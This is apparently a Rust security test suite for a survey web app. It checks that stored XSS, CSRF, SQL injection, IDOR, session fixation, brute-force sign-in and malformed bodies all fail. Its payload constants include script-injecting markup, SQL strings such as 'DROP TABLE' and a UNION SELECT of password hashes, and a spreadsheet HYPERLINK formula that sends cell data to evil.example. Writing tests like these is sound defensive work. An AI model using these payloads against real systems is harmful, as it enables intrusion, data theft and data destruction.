//! The attacker's suite, on both databases: stored XSS through answers and through
//! survey text, CSRF on every staff POST, SQL injection through every filter and the
//! sign-in form, IDOR across roles and surveys, session fixation, sign-in brute force
//! (also with a forged `X-Forwarded-For`), and oversized or malformed bodies. Every
//! attempt must fail, and each test checks that it failed for the right reason and
//! changed nothing.

mod common;

use anketa::store::{ListFilter, Status};
use common::app::{Browser, Page, TestApp, session_cookie, survey_dir};
use common::db::TestDb;
use common::staff::{
    PASSWORD, admin_creates, audit_rows, cli_admin, set_password, sign_in, staff_member, staff_post,
};
use futures_util::TryStreamExt;
use reqwest::StatusCode;
use scraper::Selector;

/// Markup that would run script if it reached a page unescaped.
const XSS: &str =
    r#"<script>alert('xss')</script><img src=x onerror=alert(1)>"'><svg onload=alert(2)>"#;

fn towns_survey() -> String {
    format!(
        r#"
id = "obce"
title = "Obce {x}"
intro = "Úvod {x}"
[choices.town]
attributes = ["region"]
options = [
  {{ value = "kolin", label = "Kolín {x}", region = "Kraj {x}" }},
  {{ value = "most", label = "Most", region = "Praha" }},
]
[[page]]
id = "p"
title = "Stránka {x}"
  [[page.question]]
  id = "town"
  type = "dropdown"
  text = "Obec {x}"
  choices = "town"
  required = true
  [[page.question]]
  id = "comment"
  type = "textarea"
  text = "Komentář {x}"
"#,
        x = XSS.replace('\\', "\\\\").replace('"', "\\\"")
    )
}

/// The second survey (tests/fixtures: shared with other test files).
const TRAINING: &str = include_str!("fixtures/skoleni.toml");

async fn app_with_limit(db: TestDb, body_limit: usize) -> (TestApp, tempfile::TempDir) {
    let dir = survey_dir(&[("obce", &towns_survey()), ("skoleni", TRAINING)]);
    let app = TestApp::spawn_with(db, dir.path(), body_limit).await;
    (app, dir)
}

async fn app(db: TestDb) -> (TestApp, tempfile::TempDir) {
    app_with_limit(db, anketa::app::Settings::DEFAULT_BODY_LIMIT).await
}

/// A respondent answers; returns the response id.
async fn answer(app: &TestApp, town: &str, comment: &str) -> String {
    let mut b = app.browser();
    b.open("/s/obce").await;
    let page = b.next(&[("town", town), ("comment", comment)]).await;
    assert!(page.url.ends_with("/done"), "{:?}", page.error_summary());
    newest_response(app).await
}

async fn newest_response(app: &TestApp) -> String {
    let all: Vec<anketa::store::Response> = app
        .store
        .list_responses("obce", &ListFilter::default())
        .try_collect()
        .await
        .unwrap();
    all.first().expect("a response").id.clone()
}

/// No element of the page carries script the page's author did not write: scripts only
/// from our own files, no event-handler attributes, no injected images or SVG.
fn assert_no_injected_markup(page: &Page, what: &str) {
    let html = page.html();
    let all = Selector::parse("*").unwrap();
    for e in html.select(&all) {
        let el = e.value();
        for (name, _) in el.attrs() {
            assert!(
                !name.to_ascii_lowercase().starts_with("on"),
                "{what}: an event handler attribute {name} on <{}>",
                el.name()
            );
        }
        match el.name() {
            "script" => {
                assert!(
                    el.attr("src").is_some_and(|s| s.starts_with("/static/")),
                    "{what}: a script that is not ours"
                );
                assert!(
                    e.text().all(|t| t.trim().is_empty()),
                    "{what}: inline script"
                );
            }
            "img" => panic!("{what}: an injected <img>"),
            "svg" => assert!(
                el.attr("class") == Some("chart"),
                "{what}: an injected <svg>"
            ),
            _ => {}
        }
    }
    assert!(
        page.body
            .contains("&lt;script&gt;alert('xss')&lt;/script&gt;"),
        "{what}: the text is shown, escaped"
    );
    let csp = page.header("content-security-policy").expect("a CSP");
    assert!(csp.contains("script-src 'self'") && !csp.contains("unsafe-inline"));
}

async fn stored_xss_through_answers_and_survey_text_is_escaped(db: TestDb) {
    let (app, dir) = app(db).await;
    // The respondent sees the survey's own text escaped.
    let mut b = app.browser();
    let page = b.open("/s/obce").await.clone();
    assert_eq!(page.status, StatusCode::OK);
    assert_no_injected_markup(&page, "the survey page");
    let kolin = answer(&app, "kolin", XSS).await;

    let mut admin = cli_admin(&app, dir.path(), "admin@example.cz").await;
    // A sign-in attempt with markup as the e-mail address lands in the audit log.
    let mut attacker = app.browser();
    let page = sign_in(&mut attacker, XSS, "whatever-password").await;
    assert_eq!(page.status, StatusCode::UNAUTHORIZED, "{}", page.body);
    assert_no_injected_markup(&page, "the sign-in form repeating what was typed");
    // A reason typed by staff is shown to other staff.
    let here = format!("/admin/surveys/obce/responses/{kolin}");
    let page = staff_post(&admin, &here, &here, &[("action", "test"), ("reason", XSS)]).await;
    assert_eq!(page.status, StatusCode::SEE_OTHER);

    for path in [
        "/admin".to_string(),
        "/admin/surveys/obce".to_string(),
        "/admin/surveys/obce/responses".to_string(),
        here.clone(),
        "/admin/audit".to_string(),
    ] {
        let page = admin.open(&path).await.clone();
        assert_eq!(page.status, StatusCode::OK, "{path}");
        assert_no_injected_markup(&page, &path);
    }
    // A formula typed as the e-mail address does not run when the audit CSV is opened
    // in a spreadsheet.
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    sign_in(&mut attacker, formula, "whatever-password").await;
    let audit = audit_rows(&admin).await;
    let failed: Vec<&str> = audit
        .iter()
        .filter(|r| r["action"] == "login_failed")
        .map(|r| r["actor_email"].as_str())
        .collect();
    assert!(
        failed.contains(&format!("'{}", formula.to_lowercase()).as_str()),
        "{failed:?}"
    );
    assert!(!failed.iter().any(|e| e.starts_with('=')));
    app.stop().await;
}

/// Every state-changing staff request, without a CSRF token and with a token from
/// another (the attacker's own) session: 403 and nothing changed.
async fn csrf_is_required_on_every_staff_post(db: TestDb) {
    let (app, dir) = app(db).await;
    let kolin = answer(&app, "kolin", "").await;
    let mut admin = cli_admin(&app, dir.path(), "admin@example.cz").await;
    let link = admin_creates(&mut admin, "eva@example.cz", "evaluator", &["obce"]).await;
    let eva = app
        .store
        .user_by_email("eva@example.cz")
        .await
        .unwrap()
        .unwrap();
    let me = app
        .store
        .user_by_email("admin@example.cz")
        .await
        .unwrap()
        .unwrap();
    // The attacker has a valid token, for their own session.
    let attacker = app.browser();
    let foreign = attacker.get_raw("/admin/login").await.csrf();

    let user_page = format!("/admin/users/{}", eva.id);
    let response_page = format!("/admin/surveys/obce/responses/{kolin}");
    let set_password_path = common::app::path_of(&link);
    let attempts: Vec<(&str, Vec<(&str, &str)>)> = vec![
        ("/admin/logout", vec![]),
        ("/admin/logout-everywhere", vec![]),
        (
            "/admin/users",
            vec![("email", "mallory@example.cz"), ("role", "admin")],
        ),
        (&user_page, vec![("action", "disable")]),
        (&user_page, vec![("action", "grant"), ("survey", "skoleni")]),
        (&user_page, vec![("action", "revoke"), ("survey", "obce")]),
        (&user_page, vec![("action", "end_sessions")]),
        (&user_page, vec![("action", "password_link")]),
        (
            &response_page,
            vec![("action", "excluded"), ("reason", "csrf")],
        ),
        (
            &response_page,
            vec![("action", "delete"), ("confirm", "yes")],
        ),
        (
            &response_page,
            vec![("action", "erase"), ("confirm", "ERASE")],
        ),
    ];
    let audit_before = audit_rows(&admin).await.len();
    for (path, fields) in &attempts {
        for token in [None, Some(foreign.as_str()), Some("")] {
            let mut all = fields.clone();
            if let Some(t) = token {
                all.push(("_csrf", t));
            }
            let page = admin.post_raw(path, &all).await;
            assert_eq!(
                page.status,
                StatusCode::FORBIDDEN,
                "{path} {fields:?} {token:?}"
            );
            assert!(
                page.body.contains("The form has expired"),
                "{path}: the reason"
            );
        }
    }
    // Nothing happened: still signed in, no account made, Eva unchanged, the response intact.
    assert_eq!(admin.get_raw("/admin").await.status, StatusCode::OK);
    assert!(
        app.store
            .user_by_email("mallory@example.cz")
            .await
            .unwrap()
            .is_none()
    );
    let eva_now = app.store.user_by_id(&eva.id).await.unwrap().unwrap();
    assert!(!eva_now.disabled);
    assert_eq!(eva_now.sessions_valid_after, eva.sessions_valid_after);
    assert_eq!(app.store.grants_of(&eva.id).await.unwrap(), ["obce"]);
    let r = app.store.response(&kolin).await.unwrap().unwrap();
    assert!(r.flag.is_none() && r.deleted_at.is_none());
    assert_eq!(
        app.store
            .user_by_id(&me.id)
            .await
            .unwrap()
            .unwrap()
            .sessions_valid_after,
        me.sessions_valid_after
    );
    assert_eq!(
        audit_rows(&admin).await.len(),
        audit_before + 1,
        "only the audit export itself"
    );

    // Sign-in and set-password forms: refused without this session's token.
    let mut victim = app.browser();
    let page = victim
        .post_raw(
            "/admin/login",
            &[
                ("email", "admin@example.cz"),
                ("password", PASSWORD),
                ("_csrf", &foreign),
            ],
        )
        .await;
    assert_eq!(page.status, StatusCode::FORBIDDEN);
    assert!(page.body.contains("The form expired"));
    assert_eq!(
        victim.get_raw("/admin").await.status,
        StatusCode::SEE_OTHER,
        "not signed in"
    );
    let page = victim
        .post_raw(
            &set_password_path,
            &[
                ("password", "attacker-chosen-pw"),
                ("confirm", "attacker-chosen-pw"),
            ],
        )
        .await;
    assert_eq!(page.status, StatusCode::FORBIDDEN);
    // The link still works for Eva, and the attacker's password was never set.
    set_password(&mut victim, &link, PASSWORD).await;
    assert_eq!(
        sign_in(&mut victim, "eva@example.cz", "attacker-chosen-pw")
            .await
            .status,
        StatusCode::UNAUTHORIZED
    );
    app.stop().await;
}

const INJECTIONS: [&str; 6] = [
    "' OR '1'='1",
    "'; DROP TABLE responses; --",
    "1 OR 1=1",
    "\" OR \"\"=\"",
    "x') UNION SELECT id, email, password_hash FROM users --",
    "%' OR 1=1 --",
];

fn enc(s: &str) -> String {
    serde_urlencoded::to_string([("", s)]).unwrap()[1..].to_string()
}

async fn sql_injection_through_filters_and_sign_in_changes_nothing(db: TestDb) {
    let (app, dir) = app(db).await;
    answer(&app, "kolin", "").await;
    answer(&app, "most", "").await;
    let admin = cli_admin(&app, dir.path(), "admin@example.cz").await;
    let rows_listed = |page: &Page| {
        let html = page.html();
        let sel = Selector::parse("tbody tr").unwrap();
        html.select(&sel).count()
    };
    for sql in INJECTIONS {
        let e = enc(sql);
        // Sign-in: just a wrong e-mail address or password. (Thirteen failures in all,
        // one on the real account: under both throttles, so a 429 cannot hide a 401.)
        let mut b = app.browser();
        let page = sign_in(&mut b, sql, sql).await;
        assert_eq!(page.status, StatusCode::UNAUTHORIZED, "{sql}");
        let page = sign_in(&mut b, &format!("admin@example.cz{sql}"), PASSWORD).await;
        assert_eq!(page.status, StatusCode::UNAUTHORIZED, "{sql}");
        if sql == INJECTIONS[0] {
            let page = sign_in(&mut b, "admin@example.cz", sql).await;
            assert_eq!(page.status, StatusCode::UNAUTHORIZED, "{sql}");
        }
        // Filters: a value nobody gave matches nothing; unknown statuses and dates are ignored.
        let page = admin
            .get_raw(&format!(
                "/admin/surveys/obce/responses?question=town&value={e}"
            ))
            .await;
        assert_eq!(page.status, StatusCode::OK);
        assert_eq!(rows_listed(&page), 0, "{sql} matched something");
        let page = admin
            .get_raw(&format!(
                "/admin/surveys/obce/responses?question={e}&value=kolin"
            ))
            .await;
        assert_eq!(rows_listed(&page), 2, "an unknown question is no filter");
        for param in ["status", "from", "to", "deleted", "page"] {
            let page = admin
                .get_raw(&format!("/admin/surveys/obce/responses?{param}={e}"))
                .await;
            assert_eq!(page.status, StatusCode::OK, "{param}={sql}");
            assert_eq!(rows_listed(&page), 2, "{param}={sql}");
        }
        let page = admin.get_raw(&format!("/admin/audit?page={e}")).await;
        assert_eq!(page.status, StatusCode::OK);
        // Ids in paths: not found.
        for path in [
            format!("/admin/surveys/{e}"),
            format!("/admin/surveys/{e}/export.csv"),
            format!("/admin/surveys/obce/responses/{e}"),
            format!("/admin/users/{e}"),
            format!("/t/{e}"),
            format!("/r/{e}"),
            format!("/s/{e}"),
        ] {
            let page = admin.get_raw(&path).await;
            assert_eq!(page.status, StatusCode::NOT_FOUND, "{path}");
        }
        let page = staff_post(
            &admin,
            "/admin",
            &format!("/admin/surveys/obce/responses/{e}"),
            &[("action", "erase"), ("confirm", "ERASE")],
        )
        .await;
        assert_eq!(page.status, StatusCode::NOT_FOUND);
    }
    // Everything is still there.
    assert_eq!(
        app.store
            .count_responses("obce", Status::Complete)
            .await
            .unwrap(),
        2
    );
    assert_eq!(app.store.list_users().await.unwrap().len(), 1);
    assert!(
        sign_in(&mut app.browser(), "admin@example.cz", PASSWORD)
            .await
            .url
            .ends_with("/admin")
    );
    app.stop().await;
}

async fn idor_across_roles_and_surveys_is_not_found(db: TestDb) {
    let (app, dir) = app(db).await;
    let kolin = answer(&app, "kolin", "soukromá poznámka").await;
    let mut admin = cli_admin(&app, dir.path(), "admin@example.cz").await;
    let eva = staff_member(
        &app,
        &mut admin,
        "eva@example.cz",
        "evaluator",
        &["skoleni"],
    )
    .await;
    let ivan = staff_member(
        &app,
        &mut admin,
        "ivan@example.cz",
        "interviewer",
        &["skoleni"],
    )
    .await;
    let eva_user = app
        .store
        .user_by_email("eva@example.cz")
        .await
        .unwrap()
        .unwrap();
    let admin_user = app
        .store
        .user_by_email("admin@example.cz")
        .await
        .unwrap()
        .unwrap();

    // A survey that exists but is not granted looks exactly like one that does not exist.
    let granted_elsewhere = eva.get_raw("/admin/surveys/obce").await;
    let nonexistent = eva.get_raw("/admin/surveys/no-such-survey").await;
    assert_eq!(granted_elsewhere.status, StatusCode::NOT_FOUND);
    assert_eq!(
        granted_elsewhere.body, nonexistent.body,
        "no existence oracle"
    );

    for (who, b) in [("evaluator", &eva), ("interviewer", &ivan)] {
        for path in [
            format!("/admin/surveys/obce/responses/{kolin}"),
            "/admin/surveys/obce/export.csv".to_string(),
            format!("/admin/users/{}", admin_user.id),
            format!("/admin/users/{}", eva_user.id),
        ] {
            let page = b.get_raw(&path).await;
            assert_eq!(page.status, StatusCode::NOT_FOUND, "{who} GET {path}");
            assert!(!page.body.contains("soukromá poznámka"));
        }
        // Granting oneself a survey, making an account, acting on a response: all 404.
        for (path, fields) in [
            (
                format!("/admin/users/{}", eva_user.id),
                vec![("action", "grant"), ("survey", "obce")],
            ),
            (
                "/admin/users".to_string(),
                vec![("email", "x@example.cz"), ("role", "admin")],
            ),
            (
                format!("/admin/surveys/obce/responses/{kolin}"),
                vec![("action", "erase"), ("confirm", "ERASE")],
            ),
            (
                format!("/admin/surveys/skoleni/responses/{kolin}"),
                vec![("action", "erase"), ("confirm", "ERASE")],
            ),
        ] {
            let page = staff_post(b, "/admin", &path, &fields).await;
            assert_eq!(page.status, StatusCode::NOT_FOUND, "{who} POST {path}");
        }
    }
    // A researcher who may see both surveys still cannot reach a response through the
    // other survey's address.
    let rita = staff_member(&app, &mut admin, "rita@example.cz", "researcher", &[]).await;
    let wrong = format!("/admin/surveys/skoleni/responses/{kolin}");
    assert_eq!(rita.get_raw(&wrong).await.status, StatusCode::NOT_FOUND);
    let page = staff_post(
        &rita,
        "/admin",
        &wrong,
        &[("action", "delete"), ("confirm", "yes")],
    )
    .await;
    assert_eq!(page.status, StatusCode::NOT_FOUND);

    // Signed out: every staff page sends to the sign-in form, every POST changes nothing.
    let anonymous = app.browser();
    for path in [
        "/admin",
        "/admin/users",
        "/admin/audit.csv",
        "/admin/surveys/obce/export.csv",
    ] {
        let page = anonymous.get_raw(path).await;
        assert_eq!(page.status, StatusCode::SEE_OTHER, "{path}");
        assert!(
            page.header("location")
                .unwrap()
                .starts_with("/admin/login?next=")
        );
    }
    let page = anonymous
        .post_raw(
            &format!("/admin/surveys/obce/responses/{kolin}"),
            &[("action", "erase"), ("confirm", "ERASE")],
        )
        .await;
    assert_eq!(page.status, StatusCode::SEE_OTHER);

    // Nothing changed.
    assert_eq!(
        app.store.grants_of(&eva_user.id).await.unwrap(),
        ["skoleni"]
    );
    assert!(
        app.store
            .user_by_email("x@example.cz")
            .await
            .unwrap()
            .is_none()
    );
    let r = app
        .store
        .response(&kolin)
        .await
        .unwrap()
        .expect("not erased");
    assert!(r.deleted_at.is_none());
    app.stop().await;
}

async fn a_planted_session_id_is_useless_after_sign_in(db: TestDb) {
    let (app, dir) = app(db).await;
    let mut admin = cli_admin(&app, dir.path(), "admin@example.cz").await;
    let link = admin_creates(&mut admin, "rita@example.cz", "researcher", &[]).await;
    let mut victim = app.browser();
    set_password(&mut victim, &link, PASSWORD).await;

    // The attacker gets a session id (opening a page stores none: answering a survey
    // does) and plants it in the victim's browser (a shared computer, a cookie injected
    // over a sibling subdomain).
    let mut attacker = app.browser();
    attacker.open("/s/skoleni").await;
    attacker.next(&[("useful", "1")]).await;
    let planted = session_cookie(&attacker, &app);
    let mut victim = Browser::with_jar(&app, std::sync::Arc::new(reqwest::cookie::Jar::default()));
    victim.jar.add_cookie_str(
        &format!("anketa_session={planted}; Path=/"),
        &app.url("/").parse().unwrap(),
    );
    let page = sign_in(&mut victim, "rita@example.cz", PASSWORD).await;
    assert!(page.url.ends_with("/admin"));
    assert_ne!(
        session_cookie(&victim, &app),
        planted,
        "the id changed at sign-in"
    );
    // The attacker's copy of the old id is not signed in.
    let page = attacker.get_raw("/admin").await;
    assert_eq!(page.status, StatusCode::SEE_OTHER);
    assert!(page.header("location").unwrap().starts_with("/admin/login"));
    app.stop().await;
}

/// Sign-in attempts from one address, each claiming another address in
/// `X-Forwarded-For` (which is not trusted unless anketa runs behind a proxy).
async fn sign_in_brute_force_is_throttled_per_address(db: TestDb) {
    let (app, dir) = app(db).await;
    let _admin = cli_admin(&app, dir.path(), "admin@example.cz").await;
    let b = app.browser();
    let form = b.get_raw("/admin/login").await;
    let csrf = form.csrf();
    let attempt = |email: String, password: &'static str, forwarded: String| {
        let body = serde_urlencoded::to_string([
            ("_csrf", csrf.as_str()),
            ("email", email.as_str()),
            ("password", password),
        ])
        .unwrap();
        b.client
            .post(app.url("/admin/login"))
            .header("content-type", "application/x-www-form-urlencoded")
            .header("x-forwarded-for", forwarded)
            .body(body)
            .send()
    };
    // 20 guesses, each at a different account, so no single account is throttled.
    for i in 0..20 {
        let resp = attempt(
            format!("user{i}@example.cz"),
            "guess-guess-guess",
            format!("203.0.113.{i}"),
        )
        .await
        .unwrap();
        assert_eq!(resp.status(), StatusCode::UNAUTHORIZED, "attempt {i}");
    }
    // Now even the right password for a real account is refused from this address.
    let resp = attempt("admin@example.cz".into(), PASSWORD, "198.51.100.7".into())
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(
        resp.text()
            .await
            .unwrap()
            .contains("Too many failed sign-ins")
    );
    let audit = app.store.audit_page(1000, 0).await.unwrap();
    assert_eq!(
        audit.iter().filter(|e| e.action == "login_failed").count(),
        20
    );
    assert_eq!(
        audit
            .iter()
            .filter(|e| e.action == "login_throttled")
            .count(),
        1
    );
    assert!(
        audit
            .iter()
            .filter(|e| e.action == "login_failed")
            .all(|e| e.ip.as_deref() == Some("127.0.0.1")),
        "the forged X-Forwarded-For was not believed"
    );
    app.stop().await;
}

async fn oversized_and_malformed_bodies_fail_with_the_right_page(db: TestDb) {
    let (app, dir) = app_with_limit(db, 4096).await;
    let admin = cli_admin(&app, dir.path(), "admin@example.cz").await;
    let b = app.browser();
    let csrf = b.get_raw("/admin/login").await.csrf();
    // A new connection for each request: the server closes a connection whose body it
    // refused without reading, and a pooled connection could be that closed one.
    let client = reqwest::Client::builder()
        .cookie_provider(b.jar.clone())
        .pool_max_idle_per_host(0)
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let post = |path: &str, content_type: &str, body: Vec<u8>| {
        client
            .post(app.url(path))
            .header("content-type", content_type.to_string())
            .body(body)
            .send()
    };
    let form = "application/x-www-form-urlencoded";

    // Larger than the limit: 413 with the "too much text" page.
    let big = format!("_csrf={csrf}&email=a%40b.cz&password={}", "x".repeat(8000));
    let resp = post("/admin/login", form, big.into_bytes()).await.unwrap();
    assert_eq!(resp.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert!(resp.text().await.unwrap().contains("Too much text"));

    // A huge multipart upload: we take no multipart at all, so 415 before reading it.
    let boundary = "XyZ";
    let mut multipart = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.bin\"\r\n\r\n"
    )
    .into_bytes();
    multipart.extend(std::iter::repeat_n(b'A', 60_000));
    multipart.extend(format!("\r\n--{boundary}--\r\n").into_bytes());
    for path in ["/admin/login", "/s/obce/p/p"] {
        let resp = post(
            path,
            &format!("multipart/form-data; boundary={boundary}"),
            multipart.clone(),
        )
        .await
        .unwrap();
        assert_eq!(resp.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE, "{path}");
        assert!(resp.text().await.unwrap().contains("<html"), "an HTML page");
    }

    // A deeply nested JSON document: not a form, 415.
    let nested = format!("{}{}", "[".repeat(1500), "]".repeat(1500));
    let resp = post("/admin/login", "application/json", nested.into_bytes())
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);

    // Deeply nested form keys are just unknown field names: ignored, and the sign-in
    // fails because the password is wrong, not because the server choked.
    let key = format!("a{}", "[a]".repeat(300));
    let body = format!(
        "_csrf={csrf}&{}=1&email=admin%40example.cz&password=wrong",
        enc(&key)
    );
    let resp = post("/admin/login", form, body.into_bytes()).await.unwrap();
    assert_eq!(resp.status(), StatusCode::UNAUTHORIZED);

    // Invalid UTF-8, percent-encoded and raw: decoded lossily, then simply wrong.
    for body in [
        format!("_csrf={csrf}&email=%FF%FE%40example.cz&password=%C3%28").into_bytes(),
        [
            format!("_csrf={csrf}&email=").as_bytes(),
            b"\xff\xfe@example.cz&password=\xc3\x28",
        ]
        .concat(),
    ] {
        let resp = post("/admin/login", form, body).await.unwrap();
        assert_eq!(resp.status(), StatusCode::UNAUTHORIZED);
        assert!(resp.text().await.unwrap().contains("is not right"));
    }
    // A malformed body for a staff action: 400 page, nothing changed.
    let kolin = answer(&app, "kolin", "").await;
    let staff_csrf = admin.get_raw("/admin").await.csrf();
    let resp = admin
        .client
        .post(app.url(&format!("/admin/surveys/obce/responses/{kolin}")))
        .header("content-type", form)
        .body(format!("_csrf={staff_csrf}&action=erase&confirm=ERASE%"))
        .send()
        .await
        .unwrap();
    assert_eq!(
        resp.status(),
        StatusCode::BAD_REQUEST,
        "\"ERASE%\" is not the word"
    );
    assert!(app.store.response(&kolin).await.unwrap().is_some());
    // Not UTF-8 in a path segment: the HTML 400 page, not a plain-text message.
    let page = admin.get_raw("/admin/surveys/%FF%FE").await;
    assert_eq!(page.status, StatusCode::BAD_REQUEST);
    assert!(
        page.header("content-type")
            .unwrap()
            .starts_with("text/html")
    );
    // A repeated query parameter that may appear once: the HTML 400 page too.
    let page = admin.get_raw("/admin/audit?page=1&page=2").await;
    assert_eq!(page.status, StatusCode::BAD_REQUEST);
    assert!(page.body.contains("The request cannot be processed"));
    app.stop().await;
}

on_both_databases!(
    stored_xss_through_answers_and_survey_text_is_escaped,
    csrf_is_required_on_every_staff_post,
    sql_injection_through_filters_and_sign_in_changes_nothing,
    idor_across_roles_and_surveys_is_not_found,
    a_planted_session_id_is_useless_after_sign_in,
    sign_in_brute_force_is_throttled_per_address,
    oversized_and_malformed_bodies_fail_with_the_right_page,
);
